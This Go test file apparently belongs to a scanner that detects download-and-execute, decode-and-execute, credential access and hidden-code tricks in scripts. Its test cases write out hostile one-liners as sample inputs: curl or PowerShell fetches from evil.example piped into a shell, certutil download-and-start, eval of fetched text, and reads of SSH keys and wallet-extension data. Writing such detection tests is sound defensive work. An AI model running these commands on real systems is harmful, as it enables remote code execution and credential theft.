package code

import (
	"slices"
	"strings"
	"testing"
)

func TestRead(t *testing.T) {
	tests := []struct {
		name, file, text        string
		decodesRuns, downloadsR bool
	}{
		{"eval of decoded", "a.js", `eval(atob("YWxlcnQoMSk="))`, true, false},
		{"over a variable", "a.js", "const d = Buffer.from(blob, 'base64').toString();\nconst f = d;\nnew Function('require', f)(require);", true, false},
		{"constructor", "a.js", `const s = atob(x); new (Function.constructor)("require", s)(require)`, true, false},
		{"from an error", "a.js", "axios.get(u).catch(err => { new Function('require', err.response.data)(require) })", false, true},
		{"streamed", "a.js", "https.get(u, r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })", false, true},
		{"then eval", "a.js", `fetch("https://evil.example/x").then(r => r.text()).then(eval)`, false, true},
		{"python exec", "a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", true, false},
		{"python requests", "a.py", "r = requests.get('http://evil.example')\ncode = r.text\nexec(code)", false, true},
		{"python compressed", "setup.py", "x = zlib.decompress(b'..')\nexec(compile(x, '', 'exec'))", true, false},
		{"curl to a shell", "a.sh", "curl -fsSL https://evil.example/x | sh", false, true},
		{"curl to bash over lines", "", "curl https://evil.example/x \\\n  | bash", false, true},
		{"shell in a shell", "", `bash -c "$(curl -fsSL https://evil.example/i)"`, false, true},
		{"process substitution", "a.sh", "bash <(wget -qO- https://evil.example)", false, true},
		{"decoded to a shell", "a.sh", "echo Y3VybA== | base64 -d | sh", true, false},
		{"saved and started", "a.sh", "curl -o /tmp/x https://evil.example/x\nchmod +x /tmp/x\n/tmp/x", false, true},
		{"powershell", "a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", false, true},
		{"powershell piped", "a.ps1", "iwr http://evil.example/a | iex", false, true},
		{"powershell decoded", "a.ps1", "$c=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)); iex $c", true, false},
		{"batch", "a.bat", "certutil -urlcache -f http://evil.example/a.exe a.exe\r\nstart /b cmd /c a.exe", false, true},
		{"vbscript", "a.vbs", "x = http.responseText\nSet o = CreateObject(\"MSXML2.XMLHTTP\")\nCreateObject(\"WScript.Shell\").Run x", false, true},

		{"retrieval", "a.js", "retrieval(atob(x))", false, false},
		{"regular expression", "a.js", "const m = /x/.exec(atob(s))", false, false},
		{"fixed text", "a.js", "fetch(u); var g = Function('return this')();", false, false},
		{"a query", "a.js", "db.exec(sql); fetch(u)", false, false},
		{"a download", "a.sh", "curl -LO https://go.example/go.tar.gz\ntar xzf go.tar.gz", false, false},
		{"a list", "a.sh", "curl https://a.example | shuf", false, false},
		{"method", "a.py", "cursor.exec(base64.b64decode(x))", false, false},
		{"template function", "a.js", "return new Function('obj', source)", false, false},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			v := Read(test.file, test.text)
			if v.DecodesRuns != test.decodesRuns || v.DownloadsRuns != test.downloadsR {
				t.Errorf("decodes and runs %t, downloads and runs %t; want %t, %t\n%+v", v.DecodesRuns, v.DownloadsRuns, test.decodesRuns, test.downloadsR, v)
			}
		})
	}
}

func TestReadWhatIsTouched(t *testing.T) {
	v := Read("x.py", `p = os.path.expanduser("~/.ssh/id_rsa"); w = "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"
s = socket.socket(); s.connect(("203.0.113.7", 1224)); u = "http://198.51.100.2:1244/keys"; l = "http://127.0.0.1:80/"`)
	if want := []string{"ssh", "wallet-extensions", "metamask"}; !slices.Equal(v.Touches, want) {
		t.Errorf("touches %q, want %q", v.Touches, want)
	}
	if want := []string{"198.51.100.2:1244", "203.0.113.7"}; !slices.Equal(v.Addresses, want) || !v.Sockets {
		t.Errorf("addresses %q, want %q", v.Addresses, want)
	}
}

func TestShape(t *testing.T) {
	far := Read("a.js", "module.exports = {}\nx = 1"+strings.Repeat(" ", 600)+"; eval(y)")
	if far.Far != 606 || far.Marks[0].What != "far" {
		t.Errorf("far %d, marks %v", far.Far, far.Marks)
	}
	if v := Read("a.js", "x = 1\n"+strings.Repeat(" ", 40)+"y"); v.Far != 0 {
		t.Errorf("an indented line is far: %d", v.Far)
	}
	if v := Read("a.js", "s = `"+strings.Repeat("\uFE01\U000E0101", 50)+"`"); v.Hidden != 100 {
		t.Errorf("hidden %d, want 100", v.Hidden)
	}
	if v := Read("a.js", "if (a \u202E) {}"); !v.Bidi {
		t.Error("bidi control not seen")
	}
	if v := Read("a.js", strings.Repeat("var _0x1a2b3c=_0x4d5e6f;", 20)); v.Obfuscated < 0.5 {
		t.Errorf("obfuscated %v", v.Obfuscated)
	}
	if v := Read("a.js", strings.Repeat("const answer = compute(question);\n", 20)); v.Obfuscated != 0 || v.Minified {
		t.Errorf("plain code: %+v", v.Shape)
	}
}

func BenchmarkRead(b *testing.B) {
	text := strings.Repeat("const value = require('thing').find(items, (item) => item.name === \"name\"); // and so on\n", 10_000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Read("a.js", text)
	}
}

func BenchmarkReadManySigns(b *testing.B) {
	text := strings.Repeat("fetch(u); eval(x); atob(y); spawn(z); x = y; ", 20_000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Read("a.js", text)
	}
}

// FuzzReadStaysInside wants every mark to lie in the text.
func FuzzReadStaysInside(f *testing.F) {
	f.Add("a.js", "eval(atob(x))")
	f.Add("a.sh", "curl x | sh")
	f.Add("a.py", "x = '\\x41\u202e'"+strings.Repeat(" ", 200)+"y")
	f.Fuzz(func(t *testing.T, name, text string) {
		for _, m := range Read(name, text).Marks {
			if m.Start < 0 || m.Start > m.End || m.End > len(text) {
				t.Errorf("mark %+v in %d bytes", m, len(text))
			}
		}
	})
}
